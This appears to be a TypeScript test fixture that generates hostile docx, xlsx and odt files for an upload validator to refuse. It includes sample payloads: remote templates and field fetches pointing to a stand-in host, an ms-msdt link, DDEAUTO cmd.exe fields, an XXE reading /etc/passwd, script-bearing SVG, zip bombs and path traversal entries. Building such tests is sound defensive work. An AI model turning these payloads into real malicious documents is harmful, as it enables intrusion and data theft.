import { type HostileFile, refusedFile } from "./hostile-file";
import { type RawEntry, rawZip } from "./raw-zip";

type Office = { extension: string; main: RawEntry; rels: string; folder: string };

const relations = (inner: string) => `<?xml version="1.0" encoding="UTF-8"?><Relationships>${inner}</Relationships>`;
const types: RawEntry = { name: "[Content_Types].xml", content: '<?xml version="1.0"?><Types></Types>' };

const word: Office = {
  extension: "docx",
  main: { name: "word/document.xml", content: '<?xml version="1.0"?><w:document><w:body/></w:document>' },
  rels: "word/_rels/document.xml.rels",
  folder: "word",
};
const excel: Office = {
  extension: "xlsx",
  main: { name: "xl/workbook.xml", content: '<?xml version="1.0"?><workbook><sheets/></workbook>' },
  rels: "xl/_rels/workbook.xml.rels",
  folder: "xl",
};
const text: Office = {
  extension: "odt",
  main: { name: "content.xml", content: '<?xml version="1.0"?><office:document-content/>' },
  rels: "Pictures/none.rels",
  folder: "Pictures",
};

const external = (type: string, target: string, mode = "External") =>
  relations(`<Relationship Id="r1" Type="http://schemas.example/${type}" Target="${target}" TargetMode="${mode}"/>`);

/** Whole documents with one thing added. */
export function hostileOfficeFiles(): HostileFile[] {
  return [word, excel, text].flatMap((office) => [
    ...added(office).map(([what, ...entries]) =>
      refusedFile(
        `${office.extension} with ${what}`,
        `plan.${office.extension}`,
        rawZip([types, office.main, ...entries]),
      ),
    ),
    ...broken(office).map(([what, content]) =>
      refusedFile(`${office.extension} that ${what}`, `plan.${office.extension}`, content),
    ),
  ]);
}

function added({ folder, rels, main }: Office): [what: string, ...RawEntry[]][] {
  const part = (name: string, content: Buffer | string): RawEntry => ({ name: `${folder}/${name}`, content });
  const xml = (content: string) => part("extra.xml", content);
  const relation = (content: string): RawEntry => ({ name: rels, content });
  return [
    ["a macro", part("vbaProject.bin", "kwaad")],
    ["a macro under another name", part("media/image1.png", Buffer.from("d0cf11e0a1b11ae1", "hex"))],
    ["an old macro sheet", part("macrosheets/sheet1.xml", "<x/>")],
    ["a Basic library", { name: "Basic/Standard/Module1.xml", content: "<x/>" }],
    ["a Python script", { name: "Scripts/python/kwaad.py", content: "import os" }],
    ["a control", part("activeX/activeX1.xml", "<x/>")],
    ["an object of another program", part("embeddings/oleObject1.bin", "kwaad")],
    ["a program", part("media/kwaad.exe", "MZ")],
    ["a program that calls itself a picture", part("media/image1.png", "MZ\x90\0")],
    ["a zip that calls itself a picture", part("media/image1.png", rawZip([{ name: "x", content: "x" }]))],
    ["a page of HTML", part("afchunk.html", "<script>alert(1)</script>")],
    ["a picture with a script", part("media/image1.svg", "<svg><script>alert(1)</script></svg>")],
    ["a picture with a script that calls itself a photo", part("media/image1.png", "<svg onload='alert(1)'/>")],
    ["a template from elsewhere", relation(external("attachedTemplate", "https://kwaad.example/x.dotm"))],
    ["a picture from elsewhere", relation(external("image", "http://kwaad.example/x.png"))],
    ["a file on a share", relation(external("hyperlink", "file://kwaad/share/x.exe"))],
    ["a share by its short name", relation(external("frame", "\\\\kwaad\\share"))],
    ["a link that is a script", relation(external("hyperlink", "javascript:alert(1)"))],
    ["a protocol of a program", relation(external("hyperlink", "ms-msdt:/id PCWDiagnostic"))],
    ["an outside object in disguise", relation(external("oleObject", "mhtml:https://kwaad.example!x", "&#69;xternal"))],
    ["a document type", xml('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')],
    ["entities that multiply", xml('<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>')],
    ["a part in another encoding", xml(Buffer.from("\ufeff<!DOCTYPE x><x/>", "utf16le").toString("latin1"))],
    ["a part that says another encoding", xml('<?xml version="1.0" encoding="UTF-7"?><x/>')],
    ["a command in a field", xml("<w:p><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:p>")],
    [
      "a command in pieces",
      xml("<w:instrText>DD</w:instrText><w:instrText>E </w:instrText><w:instrText>cmd</w:instrText>"),
    ],
    ["a command in a simple field", xml('<w:fldSimple w:instr=" DDE cmd "/>')],
    ["a picture that is fetched by a field", xml('<w:instrText>INCLUDEPICTURE "http://kwaad.example/x"</w:instrText>')],
    ["a script of OpenDocument", xml('<script:event-listener xlink:href="vnd.sun.star.script:x"/>')],
    ["a link to another program", xml("<office:dde-source/>")],
    ["a section that is fetched", xml('<text:section-source xlink:href="http://kwaad.example/x.odt"/>')],
    ["a bomb", { name: `${folder}/media/image1.png`, content: Buffer.alloc(30_000_000) }],
    ["a bomb of XML", xml(`<x>${" ".repeat(20_000_000)}</x>`)],
    ["12,000 parts", ...Array.from({ length: 12_000 }, (_, index) => part(`p${index}.xml`, ""))],
    ["a path upwards", { name: "../../kwaad.xml", content: "<x/>" }],
    ["a path from the root", { name: "/etc/kwaad.xml", content: "<x/>" }],
    ["a path of Windows", { name: "C:\\kwaad.xml", content: "<x/>" }],
    ["the main part twice", main],
    ["the main part in other letters", { ...main, name: main.name.toUpperCase() }],
    ["a part that is locked", { name: `${folder}/x.xml`, content: "<x/>", flags: 1 }],
    [
      "a part that says it is smaller",
      { name: `${folder}/x.xml`, content: "<x></x>".repeat(9_000), declaredSize: 7, localSize: 7 },
    ],
    ["a part with two names", { name: `${folder}/x.xml`, content: "<x/>", localName: `${folder}/y.xml` }],
    ["a part with two sizes", { name: `${folder}/x.xml`, content: "<x/>", localSize: 9 }],
    ["a part packed in an odd way", { name: `${folder}/x.xml`, content: "<x/>", method: 99 }],
  ];
}

function broken({ main, extension }: Office): [what: string, Buffer][] {
  const whole = rawZip([types, main]);
  return [
    ["is a program in front", rawZip([types, main], { before: Buffer.from("MZ\x90\0".repeat(20)) })],
    ["is a picture in front", Buffer.concat([Buffer.from("GIF89a"), whole])],
    ["hides bytes between its parts", rawZip([types, main], { between: Buffer.alloc(500, "MZ") })],
    ["has another file behind", rawZip([types, main], { behind: Buffer.from("<script>alert(1)</script>") })],
    ["lists its parts twice", rawZip([types, main], { listedTwice: true })],
    ["breaks off", whole.subarray(0, whole.length - 30)],
    ["is locked by Office", Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(4_000)])],
    ["is another kind of zip", rawZip([{ name: `kwaad.${extension}.txt`, content: "x" }])],
  ];
}
